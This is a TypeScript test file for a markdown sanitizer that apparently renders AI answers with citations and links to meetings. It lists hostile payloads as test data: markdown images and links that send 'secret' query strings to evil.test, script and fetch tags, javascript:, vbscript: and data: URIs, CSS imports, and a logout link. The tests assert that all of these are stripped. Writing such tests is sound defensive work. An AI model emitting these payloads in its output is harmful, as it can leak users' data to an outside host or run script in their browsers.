import { expect, test } from 'bun:test'
import { firstSuperlinear } from '../testing/linear'
import { checkCitations } from './citations'
import { plainMarkdown, safeMarkdown } from './markdown'

const HOSTILE = [
  '![a](https://evil.test/p.png?q=secret)',
  '![a][r]\n\n[r]: https://evil.test/p.png',
  '![r]\n\n[r]: https://evil.test/p.png "t"',
  '- [r]: https://evil.test/x\n\n[click][r]',
  '> [r]: <https://evil.test/x>\n\n[r]',
  '[a](https://evil.test/?q=secret)',
  '[a](<https://evil.test/?q=secret>)',
  '[a](\nhttps://evil.test/?q=secret)',
  '[a](//evil.test/x)',
  '[a](/\\evil.test)',
  '[![a](https://evil.test/a)](https://evil.test/b)',
  '[a\nb](https://evil.test "title")',
  '<https://evil.test/x>',
  'https://evil.test/x?q=secret',
  'see HTTPS://EVIL.test/x and www.evil.test/x',
  '(https://user:pass@evil.test/x)',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="https://evil.test/x">',
  '<img\nsrc="https://evil.test/x"',
  '<script>fetch("https://evil.test")</script>',
  '<svg><a href="https://evil.test">x</a></svg>',
  '<style>@import url(https://evil.test/x.css)</style>',
  '<iframe srcdoc="<img src=https://evil.test>">',
  '<a href=javascript:alert(1)>x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](vbscript:msgbox(1))',
  'javascript:alert(1)',
  '<!-- https://evil.test -->',
  '[^1]: https://evil.test',
  '`x` ![\u200b](https://evil.test/\u200b)',
  '[x](/meetings/7?next=https://evil.test)',
  '[x](/meetings/8)',
  '[x](/api/logout)',
  '[x]<b>(/api/logout)',
  '[x]www.(/api/logout)',
  '[x]q://(b)',
  'http:www.//evil.test/x',
]
const WRAPPED: ((text: string) => string)[] = [
  (text) => text,
  (text) => `**${text}**`,
  (text) => `- one\n- ${text}`,
  (text) => `> ${text}\n`,
  (text) => `# ${text}\n\nand ${text}`,
  (text) => `Fees fall [1]. ${text}`,
]

test('nothing in an answer can be fetched or links elsewhere', () => {
  for (const payload of HOSTILE) {
    for (const wrap of WRAPPED) {
      const safe = safeMarkdown(wrap(payload), new Set([7]))
      expect(safe).not.toMatch(/!\[[^\]]*\]\s?[[(]/)
      expect(safe).not.toMatch(/\]\((?!\/meetings\/7\))/)
      expect(safe).not.toMatch(/^[\s>*+-]*\[[^\]]+\]:/m)
      expect(safe).not.toMatch(/<[a-z/!]/i)
      expect(safe).not.toMatch(/[a-z]:\/\/|www\./i)
      expect(safe).not.toMatch(/(?:javascript|vbscript|data):\S/i)
    }
  }
})

test('headings, lists, quotes, citations and links to own meetings are kept', () => {
  const text = '## Fees\n\n- **Two** points [1]\n- x < 3 [2]\n\n> said so\n\n[Review](/meetings/7)'
  expect(safeMarkdown(text, new Set([7]))).toBe(text.replace('x < 3', 'x &lt; 3'))
})

test('untrusted text is shown literally', () => {
  expect(plainMarkdown('**bold** [x](https://evil.test/a) <b>')).toBe(
    '\\*\\*bold\\*\\* \\[x\\](evil.test) &lt;b\\>',
  )
})

test('brackets, addresses, marks and spaces take linear time', () => {
  const brackets = ['[', '![', '[a](', '[a[b]'].map((letters) => [letters, 125] as const)
  const others = ['a.', 'a-', 'www.', '\u0301\u0316', ' '].map((each) => [each, 2_000] as const)
  for (const [letters, size] of [...brackets, ...others]) {
    const look = (text: string) => [safeMarkdown(text), plainMarkdown(text), cited(text)]
    const make = (characters: number) => letters.repeat(characters / letters.length)
    expect(firstSuperlinear(make, look, [size, size * 8, size * 64])).toBeNull()
  }
})

test('exclamation marks without a picture take linear time', () => {
  expect(
    firstSuperlinear(
      (size) => '!'.repeat(size),
      (text) => safeMarkdown(text),
    ),
  ).toBeNull()
})

function cited(text: string) {
  return checkCitations(`${text}a`, new Set([1]))
}
